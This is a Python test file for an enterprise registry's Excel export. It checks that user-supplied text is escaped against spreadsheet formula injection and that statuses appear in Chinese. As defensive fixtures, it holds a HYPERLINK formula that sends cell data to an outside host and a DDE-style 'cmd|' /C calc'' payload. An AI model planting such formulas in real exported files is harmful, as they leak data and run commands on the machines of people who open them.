"""Exports are safe to open and readable: no formula cells from user input (issue 16 item 2), Chinese texts
under Chinese headers (issue 15 item 9)."""

from __future__ import annotations

import io

import httpx
from openpyxl import load_workbook

from shared.spreadsheets import safe_cell, safe_text
from tests.registry.helpers import YH, register


def test_safe_text_prefixes_every_formula_trigger() -> None:
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_text(text) == "'" + text
    assert safe_text("杭州=公司") == "杭州=公司" and safe_cell(-5) == -5 and safe_cell(None) is None


async def test_export_writes_user_text_as_text_never_as_formula(client: httpx.AsyncClient) -> None:
    injected = '=HYPERLINK("http://e.cn/?"&B2,"点")'
    await register(client, 701, name="=1+1 测试企业", liaison={"name": injected, "mobile": "13812345678"})
    await register(client, 702, name="@SUM(1+1)*cmd|' /C calc'!A0 公司")
    r = await client.get("/api/v1/enterprises/export.xlsx", headers=YH)
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells, "empty export"
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the export"
    values = {c.value for c in cells}
    assert "'=1+1 测试企业" in values and "'" + injected in values
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 公司" in values


async def test_export_texts_in_chinese(client: httpx.AsyncClient) -> None:
    """Issue 15 item 9: 状态 (and the tiers and pools) in Chinese under the Chinese headers."""
    a = (await register(client, 711))["uscc"]
    b = (await register(client, 712))["uscc"]
    r = await client.post(f"/api/v1/enterprises/{b}/deregister", json={"reason": "迁出本省"}, headers=YH)
    assert r.status_code == 200
    r = await client.get("/api/v1/enterprises/export.xlsx", headers=YH)
    rows = list(load_workbook(io.BytesIO(r.content)).worksheets[0].iter_rows(values_only=True))
    status = rows[0].index("状态")
    by_uscc = {row[0]: row for row in rows[1:]}
    assert by_uscc[a][status] == "在库" and by_uscc[b][status] == "已注销"
